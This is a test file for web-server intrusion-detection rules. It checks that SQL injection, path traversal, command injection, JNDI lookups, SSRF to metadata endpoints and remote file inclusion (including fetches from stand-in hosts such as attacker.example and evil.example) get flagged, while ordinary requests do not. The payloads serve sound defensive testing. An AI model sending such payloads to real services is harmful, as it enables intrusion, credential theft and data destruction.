import { decodedText } from '../../../detectors/sources/decoded-text';
import { loadRules, ownRules } from '../../../workers/rules/load-rules';
import { ORDINARY_AGENTS, ORDINARY_REQUESTS } from '../../support/ordinary-requests';

const rules = loadRules([ownRules()]).rules.about({ category: 'webserver' });

const levelsOf = (target: string, agent = 'orders-api/1.0'): readonly string[] =>
  rules
    .matchesOf({ 'cs-uri': target, decoded: decodedText(target), 'cs-user-agent': agent })
    .map(({ title, level }) => `${level}: ${title}`);

test.each([
  ['/items?id=1%27%20OR%20%271%27=%271', 'high: SQL is sent in a request'],
  ['/items?id=1+UNION+ALL+SELECT+password+FROM+users', 'high: SQL is sent in a request'],
  ['/files/..%2f..%2fetc%2fpasswd', 'high: Files outside the service are asked for'],
  ['/.aws/credentials', 'high: Files outside the service are asked for'],
  ['/ping?host=localhost;cat%20/etc/hosts', 'high: Commands are sent in a request'],
  ['/q?x=$%7Bjndi:ldap://attacker.example/a%7D', 'high: Java is reached into by a request'],
  ['/q?x=%3Cscript%3Ealert(1)%3C/script%3E', 'medium: Script is sent in a request'],
  ["/x?f=(['system'])[0]('ls')", 'high: PHP is sent in a request'],
  ['/x?c=1;id', 'high: Commands are sent in a request'],
  ['/x?c=1%7C(id)', 'high: Commands are sent in a request'],
  ['/x?c=%7Bcat,/etc/hosts%7D', 'high: Commands are sent in a request'],
  ['/fetch?url=http://169.254.169.254/latest/meta-data', 'medium: A request makes the service fetch from elsewhere'],
])('%s', (target, expected) => {
  expect(levelsOf(target)).toContain(expected);
});

test('a scanner names itself', () => {
  expect(levelsOf('/', 'sqlmap/1.7')).toEqual(['high: The agent is a scanner or an attack tool']);
});

/** What is sent to find out whether, and by what, a statement can be changed; and what is done with it then. */
test.each([
  '/items?id=1%20AND%201234=1234',
  "/items?id=1'%20AND%201234=1234%20AND%20'abcd'='abcd",
  "/items?id=1'%20or%20'1'%20=%20'1",
  '/items?id=1%22%20or%20%22a%22=%22a',
  "/items?id=admin'%20--%20",
  "/items?id=admin'--",
  "/items?id=admin'/*",
  "/items?id=admin'%23",
  "/items?id='%20or%20''='",
  "/items?id='%20or%201=1%23",
  "/items?id=')%20or%20('1'='1",
  "/items?id=')%20or%20'1'='1'--",
  "/items?id=x'%20or%20true--",
  '/items?id=1%20OR%201=1',
  '/items?id=1)%20AND%205=5%20AND%20(1=1',
  '/items?id=1%20ORDER%20BY%2010--',
  "/items?id=1'%20ORDER%20BY%203--%20-",
  '/items?id=-1%20UNION%20SELECT%201,2,3',
  '/items?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--%20-',
  "/items?id=-1'%20UNION%20SELECT%20username,password%20FROM%20users%23",
  '/items?id=1/**/union/**/select/**/1,2',
  '/items?id=1%20/*!50000UNION*/%20/*!50000SELECT*/%201,2',
  '/items?id=1%20union(select(1),2)',
  '/items?id=1%20AND%20(SELECT%202*(IF((SELECT%20*%20FROM%20(SELECT%20CONCAT(0x7171,(SELECT%20(ELT(1=1,1))),0x7178))s),1,2)))',
  '/items?id=1%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,0x71))',
  '/items?id=1;SELECT%20PG_SLEEP(5)--',
  "/items?id=1'%20AND%20SLEEP(5)%23",
  '/items?id=1-SLEEP(5)',
  '/items?id=1%20RLIKE%20(SELECT%20(CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%200x28%20END))',
  '/items?id=(select(0)from(select(sleep(15)))v)',
  '/items?id=1;DROP%20TABLE%20users',
  "/items?id=1';%20DROP%20TABLE%20users--",
  "/items?id=1;WAITFOR%20DELAY%20'0:0:5'--",
  "/items?id=1';exec%20master..xp_cmdshell%20'whoami'--",
  "/items?id='%7C%7C(SELECT%20'a'%20FROM%20dual)%7C%7C'",
  "/items?id='%20and%201=convert(int,@@version)--",
  '/items?id=1%20procedure%20analyse(extractvalue(rand(),concat(0x3a,version())),1)',
  '/items?id=1%20and%20ascii(substring(database(),1,1))%3E64',
  "/items?id='%20HAVING%201=1--",
  "/items?id=1'%20GROUP%20BY%20users.id%20HAVING%201=1--",
  '/items?id=1%20and%20(select%20count(*)%20from%20users)%3E0',
  '/items?id=1%20AND%20exists(select%20*%20from%20users)',
  "/items?id=1%20and%20substring((select%20password%20from%20users%20limit%201),1,1)='a'",
  '/items?id=1%20AND%208=CAST((CHR(113)%7C%7CCHR(122))%20AS%20NUMERIC)',
  "/items?id=1%20into%20outfile%20'/var/www/x.php'",
  '/items?id=1%20and%20if(1=1,sleep(5),0)',
  '/items?id=1%20union%20select%20table_name%20from%20information_schema.tables',
  "/items?id=1%20and%20dbms_pipe.receive_message('a',5)=0",
  '/items?user[$ne]=x&password[$ne]=y',
  '/items?password[$regex]=.*',
  "/items?id=1'%20and%20'1'%20like%20'1",
  "/items?id=1%20or%20'a'%20=%20'a'",
  '/items?id=1%2527%20OR%20%271%27=%271',
  "/items/1'%20or%20'1'='1",
  '/items?id=1%20AND%20UPDATEXML(1,CONCAT(0x2e,(SELECT%20user())),1)',
  "/items?id=1;insert%20into%20users%20values('a','b')",
  "/items?id=1';update%20users%20set%20role='admin'",
  '/items?id=1;delete%20from%20users',
  "/items?q=x'%20and%20email%20is%20not%20null--",
  "/items?q=x'%7C%7Cpg_sleep(5)--",
  '/items?id=1%20xor%201=1',
  '/items?id=1%20and%20not%201=2',
])('SQL: %s', (target) => {
  expect(levelsOf(target)).toContain('high: SQL is sent in a request');
});

test.each([
  '/fetch?url=http://169.254.169.254/latest/meta-data',
  '/fetch?url=http%3A%2F%2F169.254.170.2%2Fv2%2Fcredentials',
  '/fetch?url=http://metadata.google.internal/computeMetadata/v1/',
  '/fetch?url=file:///etc/passwd',
  '/fetch?url=gopher://127.0.0.1:6379/_INFO',
  '/fetch?url=dict://localhost:11211/',
  '/fetch?url=http://localhost:8080/admin',
  '/fetch?url=http://127.0.0.1/',
  '/fetch?url=http://127.1:22',
  '/fetch?url=http://0.0.0.0:80',
  '/fetch?url=http://[::1]/',
  '/fetch?url=http://2130706433/',
  '/fetch?url=http://0x7f000001/',
  '/fetch?url=http://0177.0.0.1/',
  '/fetch?url=http://10.0.0.5/admin',
  '/fetch?url=http://192.168.1.1/',
  '/fetch?url=https://x.burpcollaborator.net/',
  '/fetch?url=http://abc.oast.fun',
  '/fetch?url=http://10.0.0.1.nip.io/',
  '/fetch?url=http://good.example@127.0.0.1/',
  '/fetch?url=jar:http://evil.example/a.jar!/',
  '/x?page=php://filter/convert.base64-encode/resource=index',
  '/x?include=http://evil.example/shell.txt',
  '/x?mosConfig_absolute_path=http://evil.example/c',
  '/x?page=http://evil.example/shell.txt?',
  '/x?page=ftp://evil.example/shell',
  '/fetch?url=http://kubernetes.default.svc/api',
  '/fetch?url=http://[::ffff:169.254.169.254]/',
  '/fetch?url=http://[fd00:ec2::254]/latest',
  '/fetch?url=ldap://evil.example/a',
])('from elsewhere: %s', (target) => {
  expect(levelsOf(target)).toContain('medium: A request makes the service fetch from elsewhere');
});

test.each([
  '/orders/4711?page=2&sort=name',
  '/search?q=red+shoes+and+hats',
  '/search?q=cats+and+dogs+or+birds',
  '/x?env=test&sort=time&field=id',
  '/report?from=2026-01-01&to=2026-02-01',
  '/blog/how-to-select-a-union-from-many',
  '/cb?redirect_uri=https://app.example.com/cb&state=ab12',
  '/people?name=O%27Brien',
  '/wp/page.php?id=3',
  '/x?q=C%2B%2B%20(programming)',
  '/files/report.final.v2.pdf',
  ...ORDINARY_REQUESTS,
])('nothing of %s', (target) => {
  expect(levelsOf(target)).toEqual([]);
});

test.each(ORDINARY_AGENTS)('nothing of the agent %s', (agent) => {
  expect(levelsOf('/orders/7', agent)).toEqual([]);
});
